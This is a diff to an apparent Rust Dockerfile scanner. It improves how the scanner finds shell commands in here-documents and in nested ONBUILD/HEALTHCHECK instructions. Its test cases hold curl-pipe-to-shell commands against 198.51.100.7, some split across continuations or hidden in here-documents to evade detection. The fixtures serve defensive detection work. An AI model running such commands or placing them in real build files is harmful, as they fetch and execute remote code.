@@ -1,6 +1,8 @@
 //! Files by which images are built (Docker, "Dockerfile reference"): what building one runs, and what the image runs when
 //! it is started.
 
+use std::collections::HashMap;
+
 use proofhouse_artifact::json;
 
 use super::tools::at;
@@ -12,7 +14,7 @@ pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str)
         let (mut word, mut rest) = split(&line);
         let mut upper = word.to_ascii_uppercase();
         // What is kept for an image that is built from this one, and what looks after the one that runs.
-        if matches!(upper.as_str(), "ONBUILD" | "HEALTHCHECK") {
+        while matches!(upper.as_str(), "ONBUILD" | "HEALTHCHECK") {
             let inner = rest.trim_start_matches(|c: char| c.is_whitespace());
             (word, rest) = split(without_options(inner));
             upper = word.to_ascii_uppercase();
@@ -21,8 +23,9 @@ pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str)
             "RUN" | "CMD" | "ENTRYPOINT" => {
                 let rest = without_options(rest);
                 let command = words(rest).unwrap_or_else(|| rest.to_owned());
-                for line in command.lines() {
-                    shell::line(scanner, &at(content, index), line);
+                // In a here-document it is the shell that lets a line go on.
+                for (_, line) in shell::joined(&command) {
+                    shell::line(scanner, &at(content, index), &line);
                 }
             }
             "ENV" => {
@@ -43,6 +46,9 @@ fn instructions(text: &str) -> Vec<(u64, String)> {
     let escape = escape(text);
     let mut found: Vec<(u64, String)> = Vec::new();
     let mut open = false;
+    // A word that no line is ends nothing: what looked like a here-document stood in quotes.
+    let last: HashMap<&str, u64> =
+        text.lines().map(|line| line.trim_start_matches('\t')).zip(0u64..).collect();
     let mut lines = text.lines().zip(0u64..);
     while let Some((line, index)) = lines.next() {
         if line.trim_start().starts_with('#') || (open && line.trim().is_empty()) {
@@ -56,7 +62,8 @@ fn instructions(text: &str) -> Vec<(u64, String)> {
         }
         open = body.is_some();
         let Some((_, whole)) = found.last_mut().filter(|_| !open) else { continue };
-        if let Some(end) = here(whole) {
+        for end in here(whole).into_iter().filter(|end| last.get(end.as_str()).is_some_and(|at| *at > index))
+        {
             for (line, _) in lines.by_ref().take_while(|(line, _)| line.trim_start_matches('\t') != end) {
                 whole.push('\n');
                 whole.push_str(line);
@@ -76,16 +83,20 @@ fn escape(text: &str) -> char {
     set.last().unwrap_or('\\')
 }
 
-/// The word that ends a here-document which begins in this instruction.
-fn here(instruction: &str) -> Option<String> {
+/// The words that end the here-documents which begin in this instruction, in their order. A blank behind the signs makes
+/// them something of the shell's, as a shift of numbers.
+fn here(instruction: &str) -> Vec<String> {
     let runs = ["run", "copy", "add", "onbuild"];
     if !runs.contains(&split(instruction).0.to_ascii_lowercase().as_str()) {
-        return None;
+        return Vec::new();
     }
-    let (_, behind) = instruction.split_once("<<")?;
-    let word = behind.trim_start_matches('-').split_whitespace().next()?.trim_matches(['"', '\'']);
-    let plain = word.chars().all(|c| c.is_alphanumeric() || c == '_');
-    (plain && !word.is_empty()).then(|| word.to_owned())
+    let words = instruction.split("<<").skip(1).filter_map(|behind| {
+        let word =
+            behind.trim_start_matches('-').split(char::is_whitespace).next()?.trim_matches(['"', '\'']);
+        let plain = word.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'));
+        (plain && !word.is_empty()).then(|| word.to_owned())
+    });
+    words.collect()
 }
 
 fn split(line: &str) -> (&str, &str) {
@@ -134,6 +145,11 @@ mod tests {
             format!("RUN <<-'A' cat\n{fetch}\n\tA\nRUN true"),
             "RUN curl \\\n# a comment\n http://198.51.100.7/x \\\n\n | sh".to_owned(),
             "# escape=`\nRUN curl `\n http://198.51.100.7/x `\n | sh".to_owned(),
+            format!("RUN <<A <<B-1\ntrue\nA\n{fetch}\nB-1"),
+            "RUN <<EOF\ncurl \\\n http://198.51.100.7/x \\\n | sh\nEOF".to_owned(),
+            format!("RUN echo $((1 << 2 ))\nRUN {fetch}"),
+            format!("RUN echo \"<<EOF\"\nRUN {fetch}"),
+            format!("ONBUILD HEALTHCHECK CMD {fetch}"),
             format!("ONBUILD RUN {fetch}"),
             format!("HEALTHCHECK --interval=5m CMD {fetch}"),
             format!("CMD {fetch}"),
